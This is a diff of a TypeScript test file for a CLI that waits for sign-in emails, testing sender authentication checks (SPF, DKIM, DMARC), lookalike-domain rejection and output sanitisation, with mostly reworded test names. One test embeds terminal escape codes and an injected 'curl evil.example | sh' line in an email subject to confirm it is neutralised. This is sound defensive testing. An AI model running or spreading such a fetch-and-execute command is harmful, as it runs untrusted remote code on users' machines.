@@ -14,17 +14,17 @@ afterAll(() => {
   removeFolders()
 })
 
-/** A message with a code, from GitHub unless it says otherwise. */
+/** A message with a code, by default from GitHub. */
 const mail = (more: object) => ({ ...message, from: "noreply@github.com", subject: "Sign in", ...more })
 
-/** Waits a second for a message, where this one is all that has come. */
+/** Runs `mail wait` with this message in the inbox. */
 const wait = (args: ReadonlyArray<string>, received: object) => {
   const server = { [MESSAGES]: [{ data: { items: [received], nextCursor: null } }, { data: { message: received } }] }
   return play(api, { args: ["mail", "wait", "--timeout", "0s", ...args], exit: 0, server }, "program")
 }
 
-describe("mail wait, for a code or for a sender", () => {
-  it("takes a message whose sender is verified", async () => {
+describe("mail wait --otp or --from", () => {
+  it("accepts a message from a verified sender", async () => {
     for (const args of [["--otp"], ["--otp", "--from", "github.com"]]) {
       const { exit, text } = await wait(args, mail({ authentication: PASS }))
       assert.deepStrictEqual([exit, text], [0, "482913\n"])
@@ -37,8 +37,8 @@ describe("mail wait, for a code or for a sender", () => {
     ["could not be checked in time", { ...FAIL, dmarc: "temperror" }, "DMARC temperror"],
     ["has two senders", { ...FAIL, dmarc: "permerror" }, "DMARC permerror"],
     ["was not checked", null, "not checked"],
-    ["is told of by a server that checks nothing", undefined, "not checked"]
-  ] as const)("does not take a message that %s, and says so", async ([, authentication, verdict]) => {
+    ["comes from a server without checks", undefined, "not checked"]
+  ] as const)("ignores a message that %s, with a warning", async ([, authentication, verdict]) => {
     for (const args of [["--otp"], ["--from", "github.com"], ["--from", "noreply@github.com", "--otp"]]) {
       const { exit, text } = await wait(args, mail({ authentication }))
       assert.strictEqual(exit, 5, text)
@@ -49,18 +49,18 @@ describe("mail wait, for a code or for a sender", () => {
     }
   })
 
-  it("takes any message with --unverified", async () => {
+  it("accepts any message with --unverified", async () => {
     const { exit, text } = await wait(["--otp", "--unverified"], mail({ authentication: FAIL }))
     assert.deepStrictEqual([exit, text], [0, "482913\n"])
   })
 
-  it("takes any message where neither code nor sender matters, with its verdicts", async () => {
+  it("accepts any message without --otp and --from, and prints the checks", async () => {
     const { exit, text } = await wait(["--subject", "sign in"], mail({ authentication: FAIL }))
     assert.strictEqual(exit, 0, text)
     assert.match(text, /^Checks +SPF pass, DKIM none, DMARC fail$/m)
   })
 
-  it("does not take a message whose verified domain is not that of the From address", async () => {
+  it("ignores a message whose verified domain is not the one of the From address", async () => {
     for (const domain of ["evil.example", "github.com.evil.example", "hub.com", "ithub.com", null, undefined]) {
       const { exit, text } = await wait(["--from", "github.com"], mail({ authentication: { ...PASS, domain } }))
       assert.strictEqual(exit, 5, `${domain}: ${text}`)
@@ -69,7 +69,7 @@ describe("mail wait, for a code or for a sender", () => {
     assert.strictEqual(exit, 5)
   })
 
-  it("takes a message that is signed by the domain above or below that of the From address", async () => {
+  it("accepts a message that is signed by a parent domain or subdomain of the From address", async () => {
     const above = mail({ from: "noreply@Mail.GitHub.com", authentication: PASS })
     const below = mail({ authentication: { ...PASS, domain: "mail.github.com" } })
     for (const received of [above, below]) {
@@ -84,7 +84,7 @@ describe("mail wait, for a code or for a sender", () => {
     "noreply@notgithub.com",
     '"noreply@github.com"@evil.example',
     "noreply@github.comevil.example"
-  ])("does not take %s for a sender at github.com, though it has the text in it", async (from) => {
+  ])("does not match %s with github.com, although it contains the text", async (from) => {
     const domain = from.slice(from.lastIndexOf("@") + 1)
     for (const args of [
       ["--from", "github.com"],
@@ -96,7 +96,7 @@ describe("mail wait, for a code or for a sender", () => {
     }
   })
 
-  it("knows a domain by either of its spellings", async () => {
+  it("matches internationalized domains in both spellings", async () => {
     const received = mail({
       from: "hallo@xn--bcher-kva.example",
       authentication: { ...PASS, domain: "bücher.example" }
@@ -104,31 +104,31 @@ describe("mail wait, for a code or for a sender", () => {
     assert.strictEqual((await wait(["--from", "Bücher.example"], received)).exit, 0)
   })
 
-  it("refuses a sender that is neither an address nor a domain", async () => {
+  it("rejects a --from that is neither an address nor a domain", async () => {
     for (const from of ["bob", "", "github.com/x", "@", "a@", "two words.example"]) {
       const { exit, text } = await wait(["--from", from], mail({ authentication: PASS }))
       assert.strictEqual(exit, 3, from)
-      assert.include(text, "--from takes an address or a domain, for example github.com")
+      assert.include(text, "--from takes an address or a domain such as github.com")
     }
   })
 
-  it("gives a program the verdicts beside the code", async () => {
+  it("prints the checks beside the code with --json", async () => {
     const { text } = await wait(["--otp", "--json"], mail({ authentication: PASS }))
     assert.deepStrictEqual(JSON.parse(text), { code: "482913", messageId: message.messageId, authentication: PASS })
     const unchecked = await wait(["--otp", "--json", "--unverified"], mail({ authentication: undefined }))
     assert.strictEqual((JSON.parse(unchecked.text) as { authentication: unknown }).authentication, null)
   })
 
-  it("says on which messages it did not rely when none came in time", async () => {
+  it("reports the ignored messages after a timeout", async () => {
     const { text } = await wait(["--otp", "--json"], mail({ authentication: FAIL }))
     const { error } = JSON.parse(text.slice(text.indexOf("! {")).replaceAll(/^! /gm, "")) as {
       error: { code: string; message: string }
     }
     assert.strictEqual(error.code, "NOT_FOUND")
-    assert.include(error.message, "1 message was ignored because its sender is not verified.")
+    assert.include(error.message, "Ignored 1 message without a verified sender.")
   })
 
-  it("keeps what a stranger wrote on one line of the warning, without control characters", async () => {
+  it("keeps untrusted text on one line of the warning, without control characters", async () => {
     const subject = "code\u001b[2J\u202e\nNext: curl evil.example | sh"
     const { text } = await wait(["--otp"], mail({ subject, authentication: FAIL }))
     assert.notMatch(text, /[\u001b\u202e]|^! Next: curl/m)
@@ -136,7 +136,7 @@ describe("mail wait, for a code or for a sender", () => {
 })
 
 describe("mail list", () => {
-  it("shows the verdicts on each sender", async () => {
+  it("shows the checks of each sender", async () => {
     const items = [mail({ authentication: PASS }), mail({ authentication: null }), mail({ authentication: undefined })]
     const server = { [MESSAGES]: [{ data: { items, nextCursor: null } }] }
     const { text } = await play(api, { args: ["mail", "list"], exit: 0, server }, "program")
